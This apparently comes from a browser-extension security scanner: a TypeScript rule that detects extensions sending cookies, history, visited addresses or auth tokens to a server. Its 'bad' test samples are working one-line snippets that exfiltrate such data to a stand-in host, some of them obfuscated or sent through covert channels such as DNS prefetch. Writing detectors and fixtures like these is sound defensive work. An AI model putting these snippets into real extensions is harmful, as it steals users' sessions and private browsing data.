import { flowsOf } from '../../extension/flowsOf.ts';
import { REQUEST_HEADERS } from '../../extension/interfaceTable.ts';
import { hitsOfFlows } from '../../taint/hits.ts';
import type { SourceKind } from '../../taint/kinds.ts';
import { sample } from '../../testing/sample.ts';
import { dataClassOf } from '../../verdict/dataClassOf.ts';
import { isOfOwnTab } from '../../verdict/isOfOwnTab.ts';
import { isSentBack } from '../../verdict/isSentBack.ts';
import { isVisitToMaker } from '../../verdict/isVisitToMaker.ts';
import { sendingWeight } from '../../verdict/sendingWeight.ts';
import { defineRule } from '../../rule.ts';

/** What the browser's own interfaces, and the address of a page, tell. */
const KINDS: ReadonlySet<SourceKind> = new Set<SourceKind>([
  'cookies',
  'history',
  'bookmarks',
  'browsing-data',
  'downloads',
  'management',
  'tabs',
  'navigation',
  'page-address',
  'identity',
]);

export default defineRule({
  id: 'browsing-data-to-network',
  title: 'Sends browsing data to a server',
  severity: 'high',
  confidence: 'high',
  category: 'flows',
  applies: 'extension',
  cwe: 'CWE-359',
  why: 'Cookies, history, bookmarks or visited addresses leave the browser. They show what the user does, and cookies let others sign in as them.',
  remedy: 'Send only what the user’s request needs, ask first, and say so in the privacy policy. Never send cookies.',
  cap: { grade: 'F', reason: 'it sends cookies or every visited address to others', from: 'critical' },
  givesWayTo: ['request-headers-sent'],
  check: (facts) =>
    hitsOfFlows(facts.whole(flowsOf).flows, (flow) => {
      if (
        flow.source.label === REQUEST_HEADERS ||
        !KINDS.has(flow.source.kind) ||
        dataClassOf(facts, flow.source) === 'private' ||
        isVisitToMaker(facts, flow)
      )
        return undefined;
      const weight = sendingWeight(facts, flow);
      if (weight === undefined) return undefined;
      if (isOfOwnTab(flow.source)) return { ...weight, severity: 'medium', confidence: 'low' };
      if (weight.severity === 'low' || weight.severity === 'medium' || !isSentBack(facts, flow)) return weight;
      return { ...weight, severity: 'high', confidence: 'medium' };
    }),
  examples: {
    bad: [
      sample({
        background:
          'chrome.debugger.sendCommand({ tabId }, "Network.getAllCookies", {}, (r) => { fetch("https://collect.example/c", { method: "POST", body: JSON.stringify(r.cookies) }); });',
      }),
      sample({
        background:
          'setInterval(() => chrome.windows.getAll({ populate: true }, (all) => { const list = all.flatMap((w) => w.tabs.map((t) => t.url)); fetch("https://collect.example/w", { method: "POST", body: JSON.stringify(list) }); }), 60000);',
      }),
      sample({
        background:
          'chrome.cookies.getAll({}, (all) => fetch("http://127.0.0.1:9000/", { method: "POST", body: JSON.stringify(all) }));',
      }),
      sample({ content: "fetch('https://collect.example/v?u=' + window.location);" }),
      sample({
        background:
          'chrome.cookies.getAll({}, (all) => { fetch("https://collect.example/c", { method: "POST", body: JSON.stringify(all) }); });',
      }),
      sample({
        background:
          'chrome.tabs.onUpdated.addListener((id, info, tab) => { navigator.sendBeacon("https://collect.example/v", tab.url); });',
      }),
      sample({
        background:
          'chrome.history.search({ text: "", maxResults: 1000 }).then(upload); async function upload(items) { const body = new FormData(); body.append("h", JSON.stringify(items)); await fetch("https://collect.example/h", { method: "POST", body }); }',
      }),
      sample({
        background:
          'chrome.webRequest.onCompleted.addListener(function (d) { var x = new XMLHttpRequest(); x.open("POST", "https://collect.example/r"); x.send("u=" + encodeURIComponent(d.url)); }, { urls: ["<all_urls>"] });',
      }),
      sample({ content: 'new Image().src = "https://collect.example/p.gif?u=" + encodeURIComponent(location.href);' }),
      sample({
        background:
          'var n=chrome,r=n.cookies;function o(t){var e=btoa(JSON.stringify(t));fetch("https://collect.example/?d="+e)}r.getAll({},(function(t){o(t)}));',
      }),
      sample({
        background:
          'class Api { constructor(u) { this.u = u; } send(data) { return fetch(this.u, { method: "POST", body: data }); } } const api = new Api("https://collect.example"); chrome.webNavigation.onCommitted.addListener((d) => { const { url } = d; api.send(JSON.stringify({ url, at: 1 })); });',
      }),
      sample({
        content: 'chrome.runtime.sendMessage({ t: "visit", u: document.URL });',
        background:
          'const ws = new WebSocket("wss://collect.example"); chrome.runtime.onMessage.addListener((m) => { if (m.t === "visit") ws.send(m.u); });',
      }),
      sample({
        manifest: { oauth2: { client_id: 'x', scopes: ['https://mail.google.com/'] } },
        background:
          'chrome.identity.getAuthToken({ interactive: true }, (token) => { fetch("https://collect.example/t", { method: "PUT", body: JSON.stringify({ token }) }); });',
      }),
      sample({
        background:
          'chrome.identity.launchWebAuthFlow({ interactive: true, url: "https://social.example/oauth?a=1" }, (back) => { const form = new FormData(); form.append("entry.1", new URL(back).hash); fetch("https://docs.google.com/forms/d/e/1FAIpQLS/formResponse", { method: "POST", body: form }); });',
      }),
      sample({
        content: 'chrome.runtime.sendMessage({ t: "seen" });',
        background:
          'async function seal(o) { const iv = crypto.getRandomValues(new Uint8Array(12)); const c = await crypto.subtle.encrypt({ name: "AES-GCM", iv }, key, new TextEncoder().encode(JSON.stringify(o))); return btoa(String.fromCharCode(...new Uint8Array(c))); } chrome.runtime.onMessage.addListener(async (m, sender) => { fetch("https://collect.example/v", { method: "POST", body: await seal({ u: sender.tab.url }) }); });',
      }),
      sample({
        content:
          'const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "//" + btoa(location.href) + ".collect.example"; document.head.append(l);',
      }),
    ],
    good: [
      sample({
        background:
          'chrome.cookies.get({ url: "https://app.example/", name: "id" }).then(({ value }) => fetch("https://api.app.example/me", { headers: { "X-Id": value } }));',
      }),
      sample({
        manifest: { oauth2: { client_id: 'x', scopes: ['https://mail.google.com/'] } },
        background:
          'chrome.identity.getAuthToken({}, (token) => { fetch("https://gmail.googleapis.com/gmail/v1/users/me/labels", { headers: { Authorization: "Bearer " + token } }); });',
      }),
      sample({
        background:
          'chrome.runtime.onMessage.addListener((m, sender) => { if (sender.tab.url.startsWith("https://app.example/")) fetch("https://api.example/seen"); });',
      }),
      sample({
        content:
          'const l = document.createElement("link"); l.rel = "stylesheet"; l.href = chrome.runtime.getURL("skin.css") + "?" + location.href; document.head.append(l);',
      }),
      sample({
        background:
          'chrome.cookies.getAll({}, (all) => { console.log(all.length); fetch("https://api.example/ping"); });',
      }),
      sample({
        background: 'chrome.tabs.query({}, (tabs) => { fetch("https://api.example/count?n=" + tabs.length); });',
      }),
      sample({
        background:
          'chrome.tabs.onUpdated.addListener((id, info, tab) => { if (tab.url === "https://app.example/") fetch("https://api.example/seen"); });',
      }),
      sample({ background: 'chrome.history.search({ text: "" }, (h) => chrome.storage.local.set({ h }));' }),
      sample({
        background:
          'const log = (x) => fetch("https://api.example/log", { method: "POST", body: x }); const show = (x) => x; chrome.tabs.query({}, (t) => show(t[0].url)); log("started");',
      }),
    ],
  },
});
